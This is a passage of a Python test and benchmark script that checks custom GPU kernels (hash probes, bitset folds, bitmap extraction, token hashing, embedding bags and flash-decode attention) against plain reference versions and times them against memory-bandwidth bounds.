    from repro_torch.core.immutable_sketch import build_immutable
    rng = np.random.default_rng(seed)
    keys = np.unique(rng.integers(0, 2**32, n_tokens, dtype=np.uint64)
                     .astype(np.uint32))
    fps = np.repeat(keys, 2)
    sk = build_immutable(build_sealed(fps, rng.integers(0, n_postings,
                                                        fps.size)),
                         gamma=gamma, sig_bits=sig_bits)
    return sk, keys


def wave_input(np, seed, keys, q):
    """q probe fingerprints: half of them keys, half random (absent)."""
    rng = np.random.default_rng(seed)
    return np.concatenate([rng.choice(keys, q - q // 2), rng.integers(
        0, 2**32, q // 2, dtype=np.uint64)]).astype(np.uint32)


def probe_walk(np, mphf, fps):
    """Per fingerprint: the levels the MPHF probe walks up to its first set
    bit (all of them when none is set), and whether one is set."""
    from repro_torch.core.hashing import np_seeded_hash32
    from repro_torch.core.mphf import _level_seed
    walked = np.zeros(fps.size, np.int64)
    found = np.zeros(fps.size, bool)
    for lvl in range(mphf.n_levels):
        m = int(mphf.level_bits[lvl])
        if m == 0:
            continue
        walked += ~found
        pos = np_seeded_hash32(fps, _level_seed(lvl)) % np.uint32(m)
        gbit = pos.astype(np.int64) + (int(mphf.level_word_offset[lvl]) << 5)
        found |= ((mphf.words[gbit >> 5] >> (gbit & 31).astype(np.uint32))
                  & 1).astype(bool)
    return walked, found


def probe_bytes(np, mphf, fps) -> int:
    """The bytes the probe entry needs for these fingerprints: each one, the
    level words its walk touches, the rank block and its sampled rank
    where a level holds it, the fallback keys a binary search reads where
    none does, and the 5 bytes written."""
    walked, found = probe_walk(np, mphf, fps)
    search = int(np.ceil(np.log2(mphf.fallback_fps.size + 1)))
    return int(9 * fps.size + 4 * walked.sum() + 36 * found.sum()
               + 4 * search * (~found).sum())


def fused_bytes(np, sk, fps, w_out) -> int:
    """The bytes the fused entry needs: the probe's reads (not its
    output); the signature word where the MPHF resolves the key; where the
    key is present the CSF sample, 6 length words and 2 code words and the
    W plane words read; and an accumulator word read and written for each
    non-zero plane word only (x | 0 = x, so a zero word needs none)."""
    _, absent = sk.mphf.lookup_np(fps)
    present, rank = sk.probe_fingerprints_np(fps)
    w = min(sk.planes.shape[1], w_out)
    nonzero = np.count_nonzero(sk.planes[rank[present], :w])
    return int(probe_bytes(np, sk.mphf, fps) - 5 * fps.size
               + 4 * (~absent).sum() + present.sum() * (40 + 4 * w)
               + 8 * nonzero)


def fold_lens(np, seed, n, t):
    """n token counts in 1..t, the first at t and the second at 1."""
    lens = np.random.default_rng(seed).integers(1, t + 1, n).astype(np.int32)
    lens[:2] = (t, 1)[:n]
    return lens


def fold_bytes(planes, lens) -> int:
    """The bytes the ragged fold needs: the planes each live row folds
    (its first lens[q], clamped to T), the counts read, and each row's
    combined words and popcount written."""
    _, t, w = planes.shape
    return 4 * (w * int(lens.clamp(0, t).sum()) + lens.numel() * (w + 2))


def extract_case(torch, np, bm, dev, label):
    """(bitmaps, row offsets, total, label) of u32 bitmaps ``bm``: the
    offsets are the exclusive prefix sums of the rows' popcounts, as the
    engine gives them."""
    counts = np.unpackbits(bm.view(np.uint8), axis=1).sum(axis=1)
    ends = np.cumsum(counts)
    return (u32_tensor(torch, np, bm, dev),
            torch.from_numpy((ends - counts).astype(np.int32)).to(dev),
            int(ends[-1]), label)


def extract_bytes(bitmaps, offsets, total, _) -> int:
    """The bytes the ragged extract needs: every bitmap word and offset
    read, every id written."""
    return nbytes(bitmaps, offsets) + 4 * total


# ---------------------------------------------------------------- phase 3
def hold(torch, name, cases, kernel, plain, bytes_of, main,
         flush=None) -> dict:
    """``kernel`` against ``plain`` on every case (a tuple whose last item
    names it), bit for bit; then both timed at ``cases[main]``, with the
    bytes bound of that case, and with a ``flush`` the kernel cold too.
    Both return a tuple of tensors."""
    err, shapes = 0, []
    for case in cases:
        outs, refs = kernel(*case), plain(*case)
        torch.cuda.synchronize()
        e = max((int((a.to(torch.int64) - b.to(torch.int64)).abs().max())
                 if a.numel() else 0) for a, b in zip(outs, refs))
        require(e == 0 and all(a.shape == b.shape and a.dtype == b.dtype
                               and torch.equal(a, b)
                               for a, b in zip(outs, refs)),
                f"{name} disagrees with its plain version on {case[-1]}")
        err = max(err, e)
        shapes.append(case[-1])
    case = cases[main]
    ms = device_ms(torch, lambda: kernel(*case))
    plain_ms = device_ms(torch, lambda: plain(*case))
    bound = bytes_of(*case) / HBM_BYTES_PER_S * 1e3
    out = dict(max_abs_err=err, ms=ms, plain_ms=plain_ms, bound_ms=bound,
               shape=case[-1])
    if flush is not None:
        out["cold_ms"] = device_ms(torch, lambda: kernel(*case), flush)
    cold = f", cold {out['cold_ms']:.4f} ms" if flush is not None else ""
    print(f"kernel {name}: bit-exact on {len(cases)} cases {shapes}; "
          f"at {case[-1]}: kernel {ms:.4f} ms{cold}, plain {plain_ms:.4f} "
          f"ms, bound {bound:.6f} ms (bytes)", flush=True)
    return out


def hold_fused(torch, np, cases, flush) -> dict:
    """sketch_probe's fused entry against its plain version on every case
    (segment, fps, arrs, accumulator, label), each side OR-ing into its own
    copy of the accumulator, bit for bit; then both timed at ``cases[0]``
    (kernel warm and cold), OR-ing into one accumulator (the OR is
    idempotent), with the bytes bound of that case."""
    from repro_torch.kernels.sketch_probe.ops import match_planes
    from repro_torch.kernels.sketch_probe.ref import match_planes_ref
    shapes = []
    for sk, f, a, acc, label in cases:
        got = match_planes(f, a, acc.clone(), sig_bits=sk.sig_bits)
        want = match_planes_ref(f, a, acc.clone(), sig_bits=sk.sig_bits)
        torch.cuda.synchronize()
        require(torch.equal(got, want), f"sketch_probe's fused entry "
                f"disagrees with its plain version on {label}")
        shapes.append(label)
    sk, f, a, acc, label = cases[0]
    acc = acc.clone()

    def kernel():
        return match_planes(f, a, acc, sig_bits=sk.sig_bits)

    ms, cold = device_ms(torch, kernel), device_ms(torch, kernel, flush)
    plain_ms = device_ms(torch, lambda: match_planes_ref(
        f, a, acc, sig_bits=sk.sig_bits))
    bound = fused_bytes(np, sk, f.cpu().numpy().view(np.uint32),
                        acc.shape[1]) / HBM_BYTES_PER_S * 1e3
    print(f"kernel sketch_probe (fused entry): bit-exact on {len(cases)} "
          f"cases {shapes}; at {label}: kernel {ms:.4f} ms, cold {cold:.4f} "
          f"ms, plain {plain_ms:.4f} ms, bound {bound:.6f} ms (bytes)",
          flush=True)
    return dict(max_abs_err=0, ms=ms, cold_ms=cold, plain_ms=plain_ms,
                bound_ms=bound, shape=label)


def token_matrix(np, seed, n, l):
    """A zero-padded (N, L) token matrix with lengths over 0..L, a row of
    length 0, a full row and (from N = 5) a length past L."""
    rng = np.random.default_rng(seed)
    toks = rng.integers(0, 256, (n, l)).astype(np.uint8)
    lens = rng.integers(0, l + 1, n).astype(np.int32)
    lens[:3] = (0, l, l + 9)[:n]
    toks[np.arange(l)[None, :] >= lens[:, None]] = 0
    return toks, lens


def check_kernels(torch, np, dev) -> dict:
    """Every kernel function but ``csc_probe`` (held on the CSC path's own
    sketch, see ``check_csc``) against its plain version on the card;
    returns per-kernel error, times and bounds at its main-path shape."""
    from repro_torch.core.mphf import build_mphf
    from repro_torch.core.tokenizer import (MAX_TOKEN_BYTES,
                                            pack_tokens_batch,
                                            tokenize_lines_columnar)
    from repro_torch.kernels.bitmap_extract.ops import bitmap_extract
    from repro_torch.kernels.bitmap_extract.ref import bitmap_extract_ref
    from repro_torch.kernels.bitset_ops.ops import (bitset_reduce,
                                                    bitset_reduce_batch)
    from repro_torch.kernels.bitset_ops.ref import (bitset_reduce_batch_ref,
                                                    bitset_reduce_ref)
    from repro_torch.kernels.sketch_probe.ops import mphf_probe_arrs
    from repro_torch.kernels.sketch_probe.ref import sketch_probe_ref
    from repro_torch.logstore.datasets import generate_dataset

    run = functools.partial(hold, torch)
    flush = l2_flush(torch, dev)
    results = {}
    # sketch_probe's probe entry: a main-path-sized MPHF (~200k keys, the
    # largest segment's), one whose keys partly land in the fallback array,
    # a tiny one, and one past the 12 levels the kernel takes by value
    probe_cases = []
    for seed, n_keys, levels, q in ((1, 200_000, 12, 8192),
                                    (2, 50_000, 2, 1000),
                                    (3, 40, 12, 7), (4, 3000, 40, 999)):
        m, fps = mphf_input(np, build_mphf, seed, n_keys, levels, q,
                            gamma=0.3 if levels > 12 else 2.0)
        require(levels != 2 or m.fallback_fps.size > 0,
                "fallback case has no fallback keys")
        require(levels <= 12 or m.n_levels > 12, "too few levels")
        probe_cases.append((u32_tensor(torch, np, fps, dev),
                            m.device_arrays(dev), m,
                            f"Q={q} keys={n_keys} levels={m.n_levels} "
                            f"fallback={m.fallback_fps.size}"))
    results["sketch_probe"] = run(
        "sketch_probe (probe entry)", probe_cases,
        lambda f, a, m, _: mphf_probe_arrs(f, a),
        lambda f, a, m, _: sketch_probe_ref(f, a),
        lambda f, a, m, _: probe_bytes(np, m, f.cpu().numpy().view(np.uint32)),
        0, flush)
    # the fused entry: the term wave's size against a segment of the
    # largest one's size (W 62); fallback keys past the shared-memory
    # search (W_seg < W_out) and within it (W_seg > W_out, cut); a
    # one-token segment; 32-bit signatures; Q off a warp and Q = 1
    fused = []
    for seed, n_tok, n_post, gamma, sig_bits, q, w_out in (
            (5, 200_000, 1984, 2.0, 8, 4096, 62),
            (6, 3000, 40, 0.1, 5, 4096, 62),
            (7, 3000, 2000, 0.5, 12, 1000, 62),
            (8, 1, 3, 2.0, 8, 1001, 62),
            (9, 4000, 64, 2.0, 32, 1, 1)):
        sk, keys = segment_input(np, seed, n_tok, n_post, gamma, sig_bits)
        fps = wave_input(np, seed, keys, q)
        acc = torch.from_numpy(np.random.default_rng(seed).integers(
            -2**31, 2**31, (q, w_out)).astype(np.int32)).to(dev)
        fused.append((sk, u32_tensor(torch, np, fps, dev),
                      sk.device_arrays(dev), acc,
                      f"Q={q} tokens={sk.n_tokens} W={sk.planes.shape[1]}"
                      f"->{w_out} fallback={sk.mphf.fallback_fps.size} "
                      f"sig_bits={sig_bits}"))
    results["sketch_probe"]["probe_entry"] = dict(results["sketch_probe"])
    results["sketch_probe"].update(hold_fused(torch, np, fused, flush))

    def planes_cases(shapes):
        out = []
        for i, (q, t, w, op) in enumerate(shapes):
            p = u32_tensor(torch, np, planes_input(np, 10 + i, q, t, w), dev)
            out.append((p, op, f"{(q, t, w)} {op}"))
        return out

    # the engine's ragged fold: a contains wave's shape (1024 x 8 x 62,
    # counts 1..8), the term wave's (4096 x 1), Q short of Qb, a T of 16 at
    # W 61 (one-word loads), T 32 (the loop past the unrolled 16) at W 64,
    # W 1, and counts of 0 and past T
    fold = []
    for i, (qb, t, w, n, op) in enumerate((
            (1024, 8, 62, 1024, "and"), (1024, 8, 62, 1024, "or"),
            (4096, 1, 62, 4096, "and"), (1024, 16, 61, 1000, "or"),
            (8, 32, 64, 5, "and"), (8, 2, 1, 3, "or"))):
        lens = fold_lens(np, 40 + i, n, t)
        if n == 5:
            lens[2:4] = (0, t + 8)
        fold.append((u32_tensor(torch, np, planes_input(np, 10 + i, qb, t, w),
                                dev), torch.from_numpy(lens).to(dev), op,
                     f"Qb={qb} T={t} W={w} Q={n} {op}"))
    results["bitset_reduce_batch"] = hold_fold(torch, fold, "synthetic", flush)
    results["bitset_reduce_batch"]["batch_entry"] = run(
        "bitset_reduce_batch (batch entry)",
        planes_cases([(1024, 8, 62, "and"), (1024, 8, 62, "or"),
                      (4096, 1, 62, "and"), (1000, 3, 61, "or"),
                      (5, 8, 64, "and"), (3, 1, 1, "or"), (7, 20, 62, "and")]),
        lambda p, op, _: bitset_reduce_batch(p, op=op),
        lambda p, op, _: bitset_reduce_batch_ref(p, op=op),
        lambda p, op, _: nbytes(p) + 4 * p.shape[0] * (p.shape[2] + 1), 0,
        flush)

    single = [(p[0].contiguous(), op, s) for p, op, s in planes_cases(
        [(1, 8, 62, "and"), (1, 1, 62, "or"), (1, 3, 64, "and"),
         (1, 2, 7, "or")])]
    results["bitset_reduce"] = run(
        "bitset_reduce", single,
        lambda p, op, _: bitset_reduce(p, op=op),
        lambda p, op, _: bitset_reduce_ref(p, op=op),
        lambda p, op, _: nbytes(p) + 4 * (p.shape[1] + 1), 0)

    # the ragged extract: rows of every density (empty, sparse, full) at W
    # 62 and 61, a small W, and a wave with no answer (total 0)
    ragged = []
    for i, (q, w) in enumerate(((1024, 62), (4096, 62), (1000, 61), (5, 3),
                                (4, 40))):
        bm = bitmaps_input(np, 20 + i, q, w)
        if q == 4:
            bm[:] = 0
        ragged.append(extract_case(torch, np, bm, dev, f"Q={q} W={w}"))
    results["bitmap_extract"] = hold_extract(torch, ragged, "synthetic",
                                             flush)
    ext = []
    for i, (q, w, mh) in enumerate(((1024, 62, 2048), (4096, 62, 64),
                                    (1000, 61, 128), (5, 3, 8),
                                    (4, 40, 0))):
        bm = u32_tensor(torch, np, bitmaps_input(np, 20 + i, q, w), dev)
        ext.append((bm, mh, f"Q={q} W={w} max_hits={mh}"))
    results["bitmap_extract"]["padded_entry"] = run(
        "bitmap_extract (padded entry)", ext,
        lambda b, mh, _: bitmap_extract(b, max_hits=mh),
        lambda b, mh, _: bitmap_extract_ref(b, max_hits=mh),
        lambda b, mh, _: nbytes(b) + 4 * b.shape[0] * (mh + 1), 0, flush)

    # token_hash: the main shape is a real term matrix (rules 1-5 tokens of
    # generated log lines, packed to 64 bytes as the ingest path packs
    # them); the edges are odd widths (the ingest's 22, the contains
    # wave's 3, L = 1, widths past one staging window), N off the block,
    # N = 0, lengths 0, L and past L, and matrices at 4, 1 and 13 bytes
    # past 16-byte alignment
    ds = generate_dataset("tokens", n_lines=4096, n_sources=64, seed=SEED)
    tokens = tokenize_lines_columnar(ds.lines, ngrams=False)[0]
    require(len(tokens) >= N_TOKEN_ROWS, "too few tokens for the main shape")
    mat, lens = pack_tokens_batch(tokens[:N_TOKEN_ROWS], MAX_TOKEN_BYTES)
    th = [(torch.from_numpy(mat).to(dev), torch.from_numpy(lens).to(dev),
           f"term matrix {mat.shape}")]
    for i, (n, l) in enumerate(((8, 4), (100, 24), (1025, 12), (4096, 16),
                                (257, 64), (0, 64), (3, 1), (1, 1),
                                (12_456, 22), (6000, 3), (300, 65),
                                (77, 200), (5, 5000))):
        t, ln = token_matrix(np, 30 + i, n, l)
        th.append((torch.from_numpy(t).to(dev), torch.from_numpy(ln).to(dev),
                   f"({n}, {l})"))
    for i, (n, l, off) in enumerate(((999, 64, 4), (999, 22, 1),
                                     (6000, 3, 13))):
        t, ln = token_matrix(np, 50 + i, n, l)
        buf = torch.zeros(t.size + off, dtype=torch.uint8, device=dev)
        unaligned = buf[off:].view(n, l)
        unaligned.copy_(torch.from_numpy(t).to(dev))
        th.append((unaligned, torch.from_numpy(ln).to(dev),
                   f"({n}, {l}) {off} bytes off alignment"))
    results["token_hash"] = hold_token_hash(torch, th, flush)
    return results


def hold_token_hash(torch, cases, flush) -> dict:
    """``hold`` for token_hash, timed at ``cases[0]``, warm and cold."""
    from repro_torch.kernels.token_hash.ops import token_fingerprints
    from repro_torch.kernels.token_hash.ref import token_hash_ref
    return hold(
        torch, "token_hash", cases,
        lambda t, ln, _: (token_fingerprints(t, ln),),
        lambda t, ln, _: (token_hash_ref(t, ln),),
        # the bytes the hash needs: each row's first min(len, L) bytes, the
        # lengths, the fingerprints
        lambda t, ln, _: (int(ln.clamp(0, t.shape[1]).sum()) + 8 * t.shape[0]),
        0, flush)


def hold_fold(torch, cases, what, flush) -> dict:
    """``hold`` for bitset_ops' ragged entry (planes, lens, op, label),
    timed at ``cases[0]``, warm and cold."""
    from repro_torch.kernels.bitset_ops.ops import bitset_reduce_ragged
    from repro_torch.kernels.bitset_ops.ref import bitset_reduce_ragged_ref
    return hold(torch, f"bitset_reduce_batch (ragged entry, {what})", cases,
                lambda p, ln, op, _: bitset_reduce_ragged(p, ln, op=op),
                lambda p, ln, op, _: bitset_reduce_ragged_ref(p, ln, op=op),
                lambda p, ln, op, _: fold_bytes(p, ln), 0, flush)


def hold_extract(torch, cases, what, flush) -> dict:
    """``hold`` for bitmap_extract's ragged entry (bitmaps, offsets, total,
    label), timed at ``cases[0]``, warm and cold."""
    from repro_torch.kernels.bitmap_extract.ops import bitmap_extract_ragged
    from repro_torch.kernels.bitmap_extract.ref import \
        bitmap_extract_ragged_ref
    return hold(torch, f"bitmap_extract (ragged entry, {what})", cases,
                lambda b, o, n, _: (bitmap_extract_ragged(b, o, n),),
                lambda b, o, n, _: (bitmap_extract_ragged_ref(b, o, n),),
                extract_bytes, 0, flush)


# ---------------------------------------------------------------- phase 7
def hold_close(torch, name, cases, kernel, plain, library, bytes_of, tol,
               main, faults=None, also=(), flush=None, margin=1) -> dict:
    """``kernel`` against ``plain`` on every case (a tuple whose last item
    names it) within ``tol(*case, want)`` = (rtol, atol); then kernel, plain
    and ``library`` timed at ``cases[main]``, with the bytes bound of that
    case (with a ``flush``, kernel and ``library`` cold too), and kernel
    and ``library`` at each case of ``also``.  Each
    returns one tensor, and ``library`` None where no single PyTorch call
    computes the case's function (its time is then None).  The reading of
    an output is its largest |err| / (atol + rtol |want|): at most 1 for
    the kernel, and above ``margin`` for every planted fault that
    ``faults(*case)`` yields as (label, output) pairs, so that the
    tolerance is shown to separate.  The cases of ``also`` are returned as
    ``at_shapes``."""
    err, worst, caught, shapes, readings = 0.0, 0.0, float("inf"), [], []
    for case in cases:
        got, want = kernel(*case), plain(*case)
        torch.cuda.synchronize()
        rtol, atol = tol(*case, want)
        require(got.shape == want.shape and got.dtype == want.dtype,
                f"{name}: shape or dtype differs on {case[-1]}")
        limit = (atol + rtol * want.float().abs()).clamp_min(1e-30)

        def reading(out):
            e = (out.float() - want.float()).abs()
            return e, float((e / limit).max()) if e.numel() else 0.0

        e, r = reading(got)
        require(r <= 1, f"{name} disagrees with its plain version on "
                f"{case[-1]}: max |err| {float(e.max())}, reading {r}")
        err = max(err, float(e.max()) if e.numel() else 0.0)
        worst = max(worst, r)
        planted = []
        for label, out in (faults(*case) if faults else ()):
            fr = reading(out)[1]
            require(fr > margin, f"{name}'s tolerance passes a planted "
                    f"fault ({label}) on {case[-1]}: reading {fr} (required "
                    f"past {margin})")
            caught = min(caught, fr)
            planted.append(f"{label} {fr:.3g}")
        readings.append(f"{r:.3g}" + (f" ({', '.join(planted)})"
                                      if planted else ""))
        shapes.append(case[-1])
    case = cases[main]
    ms = device_ms(torch, lambda: kernel(*case))
    plain_ms = device_ms(torch, lambda: plain(*case))
    library_ms = device_ms(torch, lambda: library(*case))
    bound = bytes_of(*case) / HBM_BYTES_PER_S * 1e3
    cold = {}
    if flush is not None:
        cold = dict(cold_ms=device_ms(torch, lambda: kernel(*case), flush),
                    library_cold_ms=device_ms(torch, lambda: library(*case),
                                              flush))
        print(f"kernel {name} cold (L2 flushed) at {case[-1]}: kernel "
              f"{cold['cold_ms']:.4f} ms, library "
              f"{cold['library_cold_ms']:.4f} ms", flush=True)
    faulted = (f", planted faults read >= {caught:.3g} (by case: "
               f"{'; '.join(readings)})" if caught < float("inf") else "")
    print(f"kernel {name}: within tolerance on {len(cases)} cases {shapes}, "
          f"max |err| {err:.3g}, reading <= {worst:.3g}{faulted}; at "
          f"{case[-1]}: kernel {ms:.4f} ms, plain {plain_ms:.4f} ms, library "
          f"{library_ms:.4f} ms, bound {bound:.4f} ms (bytes), kernel at "
          f"{100 * bound / ms:.1f}% of the bound, library at "
          f"{100 * bound / library_ms:.1f}%", flush=True)
    at_shapes = []
    for i in also:
        c = cases[i]
        k_ms = device_ms(torch, lambda: kernel(*c))
        lib_ms = (None if library(*c) is None
                  else device_ms(torch, lambda: library(*c)))
        b_ms = bytes_of(*c) / HBM_BYTES_PER_S * 1e3
        lib_text = ("n/a" if lib_ms is None else
                    f"{lib_ms:.4f} ms ({100 * b_ms / lib_ms:.1f}% of the "
                    f"bound)")
        print(f"kernel {name} at {c[-1]}: kernel {k_ms:.4f} ms, library "
              f"{lib_text}, bound {b_ms:.4f} ms (bytes), kernel at "
              f"{100 * b_ms / k_ms:.1f}% of the bound", flush=True)
        at_shapes.append(dict(shape=c[-1], ms=k_ms, library_ms=lib_ms,
                              bound_ms=b_ms))
    extra = dict(at_shapes=at_shapes) if at_shapes else {}
    if caught < float("inf"):
        extra["fault_reading"] = caught
    return dict(max_abs_err=err, ms=ms, plain_ms=plain_ms, bound_ms=bound,
                library_ms=library_ms, shape=case[-1], **cold, **extra)


def check_model_kernels(torch, dev) -> dict:
    """The model-serving kernels against their plain versions on the card.
    Tolerances: f32 results at rtol 2e-5 (atol 1e-4 for the corpus dots,
    2e-5 else): the card sums in another order.  bf16
    attention at rtol 2^-7 (one bf16 step of the output) plus atol 2^-8 *
    max|want| (the plain version rounds its probabilities to bf16, the
    kernel keeps them in f32; scaled by the output, which at 32k positions
    is ~1/100 of v).  Every attention case without a window or cap must
    also reject two planted faults, made by calling the kernel on a
    shorter cache: its last split dropped, and its newest position
    dropped; every case with a window narrower than the cache must reject
    the same call with the window ignored, and every case with a cap the
    same call with the cap ignored (q is scaled past the cap).  Library
    yardsticks, timed only: ``torch.mv``,
    ``F.embedding_bag(mode="sum")`` and ``F.scaled_dot_product_attention``
    with GQA on head-major caches (none for a soft-capped case: SDPA has
    no cap)."""
    import torch.nn.functional as F
    from repro_torch.device import generator
    from repro_torch.kernels.embedding_bag.ops import embedding_bag_sum
    from repro_torch.kernels.embedding_bag.ref import embedding_bag_ref
    from repro_torch.kernels.flash_decode.ops import (blocks_per_sm,
                                                      flash_decode,
                                                      split_plan,
                                                      window_start)
    from repro_torch.kernels.flash_decode.ref import flash_decode_ref
    from repro_torch.kernels.retrieval_score.ops import retrieval_scores
    from repro_torch.kernels.retrieval_score.ref import retrieval_score_ref

    gen = generator(SEED, dev)
    sms = torch.cuda.get_device_properties(dev).multi_processor_count

    def randn(*shape, dtype=torch.float32):
        return torch.randn(shape, generator=gen, device=dev).to(dtype)

    def scores_input(c, d):
        # past D 4096, integers in [-4, 4]: every order of the sum is exact
        # there, where normal values would differ by ~1e-4 between orders
        if d <= 4096:
            return randn(c, d), randn(d)
        return tuple(torch.randint(-4, 5, size, generator=gen, device=dev)
                     .float() for size in ((c, d), (d,)))

    results = {}
    cases = [(*scores_input(c, d), f"C={c} D={d}") for c, d in RETRIEVAL_SHAPES]
    (c, d), flat = cases[0][0].shape, cases[0][0].view(-1)
    cases.append((flat[1:1 + (c - 1) * d].view(c - 1, d), cases[0][1],
                  f"C={c - 1} D={d} unaligned"))
    results["retrieval_score"] = hold_close(
        torch, "retrieval_score", cases,
        lambda x, q, _: retrieval_scores(x, q),
        lambda x, q, _: retrieval_score_ref(x, q),
        lambda x, q, _: torch.mv(x, q),
        lambda x, q, _: nbytes(x, q) + 4 * x.shape[0],
        lambda x, q, _, want: (2e-5, 1e-4), 0)
    del cases

    def bags(v, d, b, bag, fields):
        ids = torch.randint(0, v // fields, (b, bag), generator=gen,
                            device=dev, dtype=torch.int32)
        if fields > 1:
            ids += torch.arange(bag, device=dev, dtype=torch.int32) * (v // fields)
        return randn(v, d), ids.contiguous(), f"V={v} D={d} B={b} BAG={bag}"

    cases = [bags(*shape) for shape in EBAG_SHAPES + EBAG_EDGES]
    v, d = cases[2][0].shape            # D 64: float4 loads when aligned
    flat = cases[2][0].view(-1)
    cases.append((flat[1:1 + (v - 1) * d].view(v - 1, d),
                  torch.randint(0, v - 1, (512, 39), generator=gen,
                                device=dev, dtype=torch.int32),
                  f"V={v - 1} D={d} B=512 BAG=39 unaligned"))
    results["embedding_bag"] = hold_close(
        torch, "embedding_bag", cases,
        lambda t, i, _: embedding_bag_sum(t, i),
        lambda t, i, _: embedding_bag_ref(t, i),
        lambda t, i, _: F.embedding_bag(i, t, mode="sum"),
        # the indices, the rows they name, the output
        lambda t, i, _: nbytes(i) + i.numel() * t.shape[1] * 4
        + i.shape[0] * t.shape[1] * 4,
        lambda t, i, _, want: (2e-5, 2e-5), 0, flush=l2_flush(torch, dev))
    del cases

    def attn(b, s, hq, hkv, d, clen, window, cap, dtype):
        dt = getattr(torch, dtype)
        q = randn(b, hq, d) * (0.8 * cap if cap else 1.0)
        label = (f"B={b} S={s} Hq={hq} Hkv={hkv} D={d} len={clen}"
                 + (f" window={window}" if window else "")
                 + (f" softcap={cap:g}" if cap else "") + f" {dtype}")
        return (q.to(dt), randn(b, s, hkv, d, dtype=dt),
                randn(b, s, hkv, d, dtype=dt), clen, window, cap, label)

    cases = ([attn(*shape[:6], None, None, shape[6])
              for shape in DECODE_SHAPES]
             + [attn(*shape) for shape in WINDOW_DECODE_SHAPES])
    head_major = {}

    def sdpa(q, k, v, clen, window, cap, label):
        if cap is not None:
            return None                # SDPA has no soft-cap
        if label not in head_major:    # laid out once, outside the timing
            lo = window_start(clen, window)
            head_major[label] = tuple(
                x[:, lo:clen].transpose(1, 2).contiguous() for x in (k, v))
        kh, vh = head_major[label]
        return F.scaled_dot_product_attention(q[:, :, None], kh, vh,
                                              enable_gqa=True)[:, :, 0]

    def tol(q, k, v, clen, window, cap, _, want):
        if q.dtype == torch.float32:
            return 2e-5, 2e-5
        return 2 ** -7, 2 ** -8 * float(want.float().abs().max())

    def faults(q, k, v, clen, window, cap, _):
        if window is not None and window < clen:
            yield "window ignored", flash_decode(q, k, v, clen, softcap=cap)
        if cap is not None and clen - window_start(clen, window) > 1:
            # (over one position the softmax is 1 whatever the cap)
            yield "softcap ignored", flash_decode(q, k, v, clen,
                                                  window=window)
        if window is not None or cap is not None:
            return
        chunk, n_splits = split_plan(
            q.shape[0], k.shape[2], clen, sms,
            blocks_per_sm(q.shape[1] // k.shape[2], q.shape[2], q.dtype, dev))
        if n_splits > 1:
            yield "last split dropped", flash_decode(q, k, v,
                                                     (n_splits - 1) * chunk)
        if clen > 1:
            yield "newest position dropped", flash_decode(q, k, v, clen - 1)

    def window_bytes(q, k, v, clen, window, cap, _):
        """q read and the output written once, and K and V of the
        positions the window keeps read once."""
        kept = clen - window_start(clen, window)
        return 2 * q.nbytes + 2 * q.shape[0] * kept * k.shape[2] \
            * k.shape[3] * k.element_size()

    gemma_local = len(DECODE_SHAPES)
    results["flash_decode"] = hold_close(
        torch, "flash_decode", cases,
        lambda q, k, v, n, w, c, _: flash_decode(q, k, v, n, window=w,
                                                 softcap=c),
        lambda q, k, v, n, w, c, _: flash_decode_ref(q, k, v, n, window=w,
                                                     softcap=c),
        sdpa, window_bytes, tol, 0, faults,
        also=LM_CALLS + (gemma_local, gemma_local + 1, gemma_local + 2))
    del cases, head_major
    torch.cuda.empty_cache()
    return results


def free(torch) -> None:
    gc.collect()
    torch.cuda.empty_cache()


def percentiles(np, ms) -> tuple[float, float]:
    return float(np.percentile(ms, 50)), float(np.percentile(ms, 99))


# ---------------------------------------------------------------- phase 8
def lm_path(torch, np, dev, counters, arch="llama3-8b", layers=None,
            batch=LM_BATCH, prompt=LM_PROMPT, cfg=None, mesh=None) -> dict:
    """An LM arch's serving at full width (``layers`` of its layers kept,
    or all): prefill, greedy decode, and one decode step through
    ``flash_decode`` (with each layer's window and soft-cap) against the
    same step through the plain ``decode_attention``, with the readings
    of two planted faults of the kernel beside it (the dropped split's
    required to move the logits past the tolerance).  ``cfg`` replaces
    the arch's config (a smoke config when rehearsing on the CPU).  With
    ``mesh`` (phase 12's one-rank mesh), the prefill runs again with
    every mesh field set and must give the same logits bit for bit."""
    from dataclasses import replace

    from repro_torch.configs import get_arch
    from repro_torch.device import generator
    from repro_torch.kernels.flash_decode.ops import (blocks_per_sm,
                                                      split_plan,
                                                      window_start)
    from repro_torch.models import attention, moe
    from repro_torch.models.attention import decode_attention
    from repro_torch.models.transformer import (decode_step, init_cache,
                                                init_params, layer_window,
                                                prefill)

    t_path = time.perf_counter()
    cfg = cfg or get_arch(arch).config
    full_layers = cfg.n_layers
    if layers is not None:
        cfg = replace(cfg, n_layers=layers)
    depth = f"{cfg.n_layers} of {full_layers} layers"
    torch.cuda.reset_peak_memory_stats(dev)
    t0 = time.perf_counter()
    params = init_params(cfg, generator(SEED, dev))
    torch.cuda.synchronize()
    n_params = sum(t.numel() for t in _leaves(params))
    init_s = time.perf_counter() - t0
    b, s = batch, prompt
    prompts = torch.from_numpy(np.random.default_rng(SEED).integers(
        1, cfg.vocab, (b, s)).astype(np.int32)).to(dev)

    reset(counters)
    t_serve = time.perf_counter()
    with torch.inference_mode():
        t0 = time.perf_counter()
        cache_pref, logits = prefill(cfg, params, prompts)
        torch.cuda.synchronize()
        prefill_s = time.perf_counter() - t0
        prefill_logits = logits
        cache = init_cache(cfg, b, s + LM_DECODE, device=dev)
        for n in ("k", "v"):
            cache[n][:, :, :s] = cache_pref[n]
        del cache_pref
        tokens = [logits.argmax(-1).to(torch.int32)]
        step_ms = []
        for i in range(LM_DECODE - 1):
            t0 = time.perf_counter()
            cache, tok, _ = decode_step(cfg, params, cache, tokens[-1], s + i)
            torch.cuda.synchronize()
            step_ms.append((time.perf_counter() - t0) * 1e3)
            tokens.append(tok)
    launches = read(counters)
    t_checks = time.perf_counter()
    require(launches["flash_decode"] == cfg.n_layers * (LM_DECODE - 1),
            f"flash_decode launched {launches['flash_decode']} times, not "
            f"once per layer and step")
    gen_tokens = torch.stack(tokens, 1).cpu().numpy()
    require(gen_tokens.min() >= 0 and gen_tokens.max() < cfg.vocab,
            "a generated token lies outside the vocabulary")

    # the last step again (it rewrites the same K/V at the same position):
    # through the kernel, through the plain version on the card, and through
    # two planted faults of the kernel, each read against the plain logits.
    # The attention module's name is swapped, and the launch count must
    # show that each step took the attention it was given.  An MoE layer's
    # top-k is discrete: attention outputs one bf16 step apart can flip a
    # token's experts, which moves its logits by their whole scale.  So the
    # plain step and the planted faults replay the kernel step's routing
    # (their own gates at the kernel step's experts), as the kernel itself
    # is read, and a second plain step routes on its own, to count the
    # flips.
